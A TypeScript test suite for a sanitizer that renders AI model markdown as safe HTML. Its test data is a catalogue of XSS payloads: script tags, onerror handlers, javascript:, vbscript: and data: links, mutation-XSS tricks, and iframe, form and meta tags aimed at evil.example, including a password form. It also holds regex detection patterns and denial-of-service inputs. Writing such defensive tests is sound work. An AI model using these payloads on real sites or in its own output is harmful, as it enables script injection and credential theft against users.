import { test, describe } from 'node:test';
import assert from 'node:assert/strict';
import { MODEL_TEXT_MAX_CHARS, renderModelText, renderModelTextStreaming } from '../../src/ai/render-model-text.ts';

const ALLOWED_TAGS = new Set([
  'p', 'br', 'hr', 'h3', 'h4', 'h5', 'h6', 'blockquote', 'ul', 'ol', 'li', 'strong', 'em', 'b', 'i', 'del', 's',
  'kbd', 'sup', 'sub', 'code', 'pre', 'span', 'a', 'table', 'thead', 'tbody', 'tr', 'th', 'td',
]);
const ALLOWED_ATTRIBUTES = new Set(['href', 'title', 'rel', 'target', 'class', 'align', 'start']);

/**
 * Everything a hostile answer must never leave in the HTML. Text may mention "javascript:" or
 * "onerror=" (it is escaped and shown as words); tags and attributes are what can act, so every
 * tag in the output must be well formed, allowed, and carry only allowed attributes.
 */
function assertInert(html: string, label: string): void {
  const forbidden: [RegExp, string][] = [
    [/<script/i, '<script'], [/<iframe/i, '<iframe'], [/<svg/i, '<svg'], [/<math/i, '<math'],
    [/<style/i, '<style'], [/<form/i, '<form'], [/<input/i, '<input'], [/<meta/i, '<meta'],
    [/<object/i, '<object'], [/<embed/i, '<embed'], [/<img/i, '<img'], [/<link/i, '<link'],
    [/<base/i, '<base'], [/<!--/, 'an HTML comment'],
  ];
  for (const [re, what] of forbidden) assert.doesNotMatch(html, re, `${label}: left ${what} in ${html}`);
  for (const m of html.matchAll(/<[^>]*>?/g)) {
    const tag = m[0];
    // Attribute values are always double-quoted, with quotes inside escaped as &quot;.
    const parts = /^<\/?([a-z0-9]+)((?:\s+[a-z-]+(?:="[^"<>]*")?)*)\s*\/?>$/.exec(tag);
    assert.ok(parts, `${label}: malformed tag ${tag} in ${html}`);
    assert.ok(ALLOWED_TAGS.has(parts[1]!), `${label}: tag ${parts[1]} not allowed in ${html}`);
    for (const a of (parts[2] ?? '').matchAll(/\s+([a-z-]+)(?:="([^"]*)")?/g)) {
      const [, name, value = ''] = a;
      assert.ok(ALLOWED_ATTRIBUTES.has(name!), `${label}: attribute ${name} in ${tag}`);
      assert.doesNotMatch(value, /(?:java|vb)script\s*:|^\s*data:/i, `${label}: unsafe value in ${tag}`);
      assert.doesNotMatch(name!, /^on/i, `${label}: event handler in ${tag}`);
    }
    if (/^<a\b/.test(tag)) {
      // Every link that survived goes to an allowed scheme and opens safely.
      assert.match(tag, /\shref="(?:https?:|mailto:)/i, `${label}: link without a safe href: ${tag}`);
      assert.match(tag, /\srel="noopener noreferrer nofollow"/, `${label}: rel not forced: ${tag}`);
      assert.match(tag, /\starget="_blank"/, `${label}: target not forced: ${tag}`);
    }
  }
  // No scheme a browser could run survives anywhere a browser would read it as a URL.
  assert.doesNotMatch(html, /(?:href|src|action|formaction|srcdoc)\s*=\s*"?\s*(?:javascript|vbscript|data):/i, `${label}: ${html}`);
}

const HOSTILE: Record<string, string> = {
  'script tag': 'Sure!\n\n<script>alert(1)</script>\n\ndone',
  'inline script tag': 'text <script>alert(document.cookie)</script> more',
  'script with odd casing and spacing': '<ScRiPt >alert(1)</sCrIpT >',
  'img onerror': '<img src=x onerror=alert(1)>',
  'img onerror quoted with alt': '<img src="x" alt="a picture" onerror="alert(1)">',
  'html javascript link': '<a href="javascript:alert(1)">click</a>',
  'markdown javascript link': '[x](javascript:alert(1))',
  'markdown mixed-case javascript link': '[x](JaVaScRiPt:alert(1))',
  'entity-encoded colon': '<a href="javascript&#58;alert(1)">x</a> <a href="javascript&colon;alert(1)">y</a>',
  'entity-encoded letters': '<a href="&#106;avascript:alert(1)">x</a> <a href="jav&#x61;script:alert(1)">y</a>',
  'markdown entity-encoded colon': '[x](javascript&#58;alert(1))',
  'tab inside scheme': '<a href="java\tscript:alert(1)">x</a> [y](java%09script:alert(1))',
  'leading spaces and control chars': '<a href="  \u0001javascript:alert(1)">x</a>',
  'data url link': '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==) <a href="data:text/html,<script>alert(1)</script>">y</a>',
  'vbscript url': '[x](vbscript:msgbox(1)) <a href="VBScript:msgbox(1)">y</a>',
  'svg onload': '<svg onload=alert(1)><circle r="5"/></svg>',
  'svg with script inside': '<svg><script>alert(1)</script></svg>',
  'math': '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>',
  'iframe': '<iframe src="https://evil.example"></iframe>',
  'iframe srcdoc': '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  'style element': '<style>body { display: none }</style>',
  'style attribute': '<p style="position:fixed;top:0;left:0;width:100%;height:100%">cover</p>',
  'id attribute': '<h2 id="main">clobber</h2><a id="x" href="https://a.example">a</a>',
  'form': '<form action="https://evil.example"><input name="password"><button>Go</button></form>',
  'meta refresh': '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  'base tag': '<base href="https://evil.example/">',
  'link tag': '<link rel="stylesheet" href="https://evil.example/x.css">',
  'object and embed': '<object data="https://evil.example/x.swf"></object><embed src="https://evil.example/x.swf">',
  'comment hiding script': '<!-- <script>alert(1)</script> -->text',
  'conditional comment': '<!--[if IE]><script>alert(1)</script><![endif]-->',
  'markdown link title with quotes': '[x](https://example.com "a\\" onmouseover=\\"alert(1)")',
  'markdown link title single quotes': "[x](https://example.com 'it\\'s \" onclick=\"alert(1)')",
  'autolink javascript': '<javascript:alert(1)>',
  'autolink https': '<https://example.com/a?b=c&d=e>',
  'bare url': 'see www.example.com or https://example.com/x',
  'markdown image with onerror-ish alt': '![x" onerror="alert(1)](https://evil.example/x.png)',
  'markdown image javascript': '![x](javascript:alert(1))',
  'reference-style javascript link': '[x][1]\n\n[1]: javascript:alert(1)',
  'event handler on allowed tag': '<p onclick="alert(1)">p</p><a href="https://a.example" onmouseover="alert(1)">a</a>',
  'unclosed tag soup': '<a href="https://a.example" <script>alert(1)</script>',
  'nested in table': '| a |\n|---|\n| <img src=x onerror=alert(1)> |',
  'nested in list': '- <script>alert(1)</script>\n- [x](javascript:alert(1))',
  'protocol-relative link': '[x](//evil.example/x) <a href="//evil.example">y</a>',
  'textarea breakout': '<textarea></textarea><script>alert(1)</script>',
  'noscript trick': '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  'template': '<template><script>alert(1)</script></template>',
  'mxss style in svg': '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
};

describe('renderModelText: hostile model output is inert', () => {
  for (const [label, input] of Object.entries(HOSTILE)) {
    test(label, () => {
      assertInert(renderModelText(input), label);
      // The streaming path must be just as strict.
      assertInert(renderModelTextStreaming(input), `${label} (streaming)`);
    });
  }

  test('a refused link leaves no trace of its URL at all', () => {
    for (const input of [
      '[x](javascript:alert(1))', '[x](JaVaScRiPt:alert(1))', '<a href="javascript&#58;alert(1)">x</a>',
      '[x](vbscript:msgbox(1))', '[x](data:text/html,hi)', '[x][1]\n\n[1]: javascript:alert(1)',
      '![x](javascript:alert(1))', '<img src="javascript:alert(1)" alt="x">',
    ]) {
      const html = renderModelText(input);
      assert.doesNotMatch(html, /javascript|vbscript|data:/i, `${input} → ${html}`);
      assert.match(html, /x/);
    }
  });

  test('words of a refused link stay, as plain text', () => {
    const html = renderModelText('[click me](javascript:alert(1))');
    assert.match(html, /click me/);
    assert.doesNotMatch(html, /<a\b/);
  });

  test('script content is dropped, not shown', () => {
    const html = renderModelText('before <script>alert("pwned")</script> after');
    assert.doesNotMatch(html, /pwned/);
    assert.match(html, /before/);
    assert.match(html, /after/);
  });

  test('a quote in a link title cannot open an attribute', () => {
    const html = renderModelText('[x](https://example.com "a\\" onmouseover=\\"alert(1)")');
    assert.match(html, /<a [^>]*href="https:\/\/example\.com"[^>]*>x<\/a>/);
    assert.match(html, /title="a&quot; onmouseover=&quot;alert\(1\)"/);
  });
});

describe('renderModelText: images become links', () => {
  test('a markdown image is a link labelled with its alt text', () => {
    const html = renderModelText('![a diagram](https://example.com/d.png)');
    assert.doesNotMatch(html, /<img/i);
    assert.match(html, /<a [^>]*href="https:\/\/example\.com\/d\.png"[^>]*>a diagram<\/a>/);
  });

  test('a raw <img> is a link labelled with its alt text', () => {
    const html = renderModelText('<img src="https://example.com/d.png" alt="chart">');
    assert.doesNotMatch(html, /<img/i);
    assert.match(html, /<a [^>]*href="https:\/\/example\.com\/d\.png"[^>]*>chart<\/a>/);
  });

  test('an image with an unsafe URL keeps only its alt text', () => {
    const html = renderModelText('![tracker](data:image/png;base64,AAAA)');
    assert.doesNotMatch(html, /<a\b/);
    assert.match(html, /tracker/);
  });
});

describe('renderModelText: normal markdown', () => {
  test('headings are demoted by two levels', () => {
    const html = renderModelText('# One\n\n## Two\n\n### Three\n\n#### Four\n\n##### Five\n\n###### Six');
    assert.match(html, /<h3>One<\/h3>/);
    assert.match(html, /<h4>Two<\/h4>/);
    assert.match(html, /<h5>Three<\/h5>/);
    assert.match(html, /<h6>Four<\/h6>/);
    assert.match(html, /<h6>Five<\/h6>/);
    assert.match(html, /<h6>Six<\/h6>/);
    assert.doesNotMatch(html, /<h[12]/);
    // Raw HTML headings too.
    assert.match(renderModelText('<h1>Big</h1>'), /<h3>Big<\/h3>/);
  });

  test('paragraphs, emphasis, lists, quotes, rules', () => {
    const html = renderModelText('Hello **bold** and _em_ and ~~gone~~ and `code`.\n\n- a\n- b\n\n3. three\n4. four\n\n> quoted\n\n---\n\nline  \nbreak');
    assert.match(html, /<p>Hello <strong>bold<\/strong> and <em>em<\/em> and <del>gone<\/del> and <code>code<\/code>\.<\/p>/);
    assert.match(html, /<ul>\s*<li>a<\/li>\s*<li>b<\/li>\s*<\/ul>/);
    assert.match(html, /<ol start="3">\s*<li>three<\/li>/);
    assert.match(html, /<blockquote>\s*<p>quoted<\/p>\s*<\/blockquote>/);
    assert.match(html, /<hr \/>/);
    assert.match(html, /line<br \/>/);
  });

  test('task list items show a glyph, not a form control', () => {
    const html = renderModelText('- [x] done\n- [ ] todo');
    assert.doesNotMatch(html, /<input/);
    assert.match(html, /☑ done/);
    assert.match(html, /☐ todo/);
  });

  test('tables keep their alignment', () => {
    const html = renderModelText('| a | b |\n|:--|--:|\n| 1 | 2 |');
    assert.match(html, /<table>/);
    assert.match(html, /<th align="left">a<\/th>/);
    assert.match(html, /<td align="right">2<\/td>/);
  });

  test('links get rel and target forced', () => {
    const html = renderModelText('[docs](https://example.com/docs "The docs") and <mailto:a@example.com>');
    assert.match(html, /<a rel="noopener noreferrer nofollow" target="_blank" href="https:\/\/example\.com\/docs" title="The docs">docs<\/a>/);
    assert.match(html, /<a [^>]*href="mailto:a@example\.com"[^>]*>/);
    // A model cannot weaken them.
    const raw = renderModelText('<a href="https://example.com" rel="opener" target="_self">x</a>');
    assert.match(raw, /rel="noopener noreferrer nofollow"/);
    assert.match(raw, /target="_blank"/);
    assert.doesNotMatch(raw, /_self|"opener"/);
  });

  test('relative links are not links', () => {
    const html = renderModelText('[revert](/runs/1/revert) [top](#top)');
    assert.doesNotMatch(html, /<a\b/);
    assert.match(html, /revert/);
  });

  test('code in a known language is highlighted with hljs classes', () => {
    const html = renderModelText('```js\nconst x = 1;\n```');
    assert.match(html, /<pre><code class="hljs language-js">/);
    assert.match(html, /<span class="hljs-keyword">const<\/span>/);
  });

  test("highlight.js's sub-scope and embedded-language classes survive", () => {
    const js = renderModelText('```js\nclass A extends B {}\nfunction f() {}\n```');
    assert.match(js, /<span class="hljs-title class_ inherited__">B<\/span>/);
    assert.match(js, /<span class="hljs-title function_">f<\/span>/);
    const html = renderModelText('```html\n<style>a { color: red }</style>\n```');
    assert.match(html, /<span class="language-css">/);
  });

  test('code in an unknown language is plain and escaped', () => {
    const html = renderModelText('```nosuchlanguage\n<script>alert(1)</script> & "q"\n```');
    assert.match(html, /<pre><code class="hljs">&lt;script&gt;alert\(1\)&lt;\/script&gt; &amp; "q"<\/code><\/pre>/);
    assert.doesNotMatch(html, /<span/);
  });

  test('code content is escaped, in highlighted and inline code', () => {
    const html = renderModelText('```html\n<img src=x onerror=alert(1)>\n```\n\nand `<script>x</script>`');
    assertInert(html, 'code content');
    assert.match(html, /class="hljs language-html"/);
    assert.match(html, /&lt;/);
    assert.match(html, /<code>&lt;script&gt;x&lt;\/script&gt;<\/code>/);
  });

  test('a model cannot add its own classes or styles to code', () => {
    const html = renderModelText('<code class="hljs evil" style="x">a</code><span class="hljs-string other">b</span><p class="x">c</p>');
    assert.match(html, /<code class="hljs">a<\/code>/);
    assert.match(html, /<span class="hljs-string">b<\/span>/);
    assert.match(html, /<p>c<\/p>/);
  });
});

describe('renderModelText: size and pathological input', () => {
  test('a huge answer is cut with a visible note', () => {
    const long = 'word '.repeat(60_000); // 300,000 characters
    const html = renderModelText(long);
    assert.match(html, /\(cut: the answer was 300,000 characters\)/);
    assert.ok(html.length < MODEL_TEXT_MAX_CHARS * 2, `output is ${html.length} characters`);
    const small = renderModelText('abcdefghij', { maxChars: 4 });
    assert.match(small, /abcd/);
    assert.doesNotMatch(small, /abcde/);
    assert.match(small, /\(cut: the answer was 10 characters\)/);
  });

  test('a cut never splits a surrogate pair', () => {
    const html = renderModelText('ab😀cd', { maxChars: 3 });
    assert.doesNotMatch(html, /[\ud800-\udbff](?![\udc00-\udfff])/);
  });

  test('an answer under the limit has no note', () => {
    assert.doesNotMatch(renderModelText('short'), /cut:/);
  });

  const n = 50_000;
  const PATHOLOGICAL: Record<string, string> = {
    'nested quotes': '>'.repeat(n) + ' x',
    'nested spaced quotes': '> '.repeat(n) + 'x',
    'nested list markers': '- '.repeat(n) + 'x',
    'indented nested lists': Array.from({ length: 440 }, (_, i) => ' '.repeat(i * 2) + '- x').join('\n'),
    'stars': '*'.repeat(n),
    'star-letter runs': '*a'.repeat(n),
    'underscore runs': '_a'.repeat(n),
    'many short underscore paragraphs': Array.from({ length: 40 }, () => '_a'.repeat(2_400)).join('\n\n'),
    'backticks': '`'.repeat(n),
    'backtick-letter runs': '`a'.repeat(n),
    'brackets': '['.repeat(n) + ']'.repeat(n),
    'nested raw tags': '<b>'.repeat(n),
    'many raw tags in short paragraphs': Array.from({ length: 60 }, () => '<b>'.repeat(1_000)).join('\n\n'),
    'link openers': '[a]('.repeat(n),
  };
  for (const [label, input] of Object.entries(PATHOLOGICAL)) {
    test(`${label} completes with bounded output`, () => {
      const html = renderModelText(input);
      assert.ok(html.length > 0);
      assert.ok(html.length < input.length * 8 + 1_000, `${label}: output is ${html.length} characters`);
      assertInert(html, label);
    });
  }

  test('pathological input falls back to escaped text', () => {
    const html = renderModelText('<script>x</script>\n\n' + '_a'.repeat(n));
    assert.match(html, /^<pre class="model-text-plain">&lt;script&gt;x&lt;\/script&gt;/);
  });
});

describe('renderModelTextStreaming', () => {
  test('an unclosed code fence renders as code while it streams', () => {
    const html = renderModelTextStreaming('Here:\n\n```python\ndef f():\n    return "<b>"');
    assert.match(html, /<p>Here:<\/p>/);
    assert.match(html, /<pre><code class="hljs language-python">/);
    assert.match(html, /&lt;b&gt;/);
    assertInert(html, 'unclosed fence');
  });

  test('a half-typed fence does not flash as inline code', () => {
    const html = renderModelTextStreaming('Text\n\n``');
    assert.match(html, /<p>Text<\/p>/);
    assert.doesNotMatch(html, /`/);
  });

  test('a partial link or tag is inert', () => {
    assertInert(renderModelTextStreaming('see [x](javascript:al'), 'partial link');
    assertInert(renderModelTextStreaming('hi <img src=x onerr'), 'partial tag');
    assertInert(renderModelTextStreaming('hi <script>alert('), 'partial script');
  });

  test('the final answer renders as the last partial did, plus the closing fence', () => {
    const partial = renderModelTextStreaming('```js\nconst a = 1;\n');
    const final = renderModelText('```js\nconst a = 1;\n```');
    assert.equal(partial, final);
  });
});
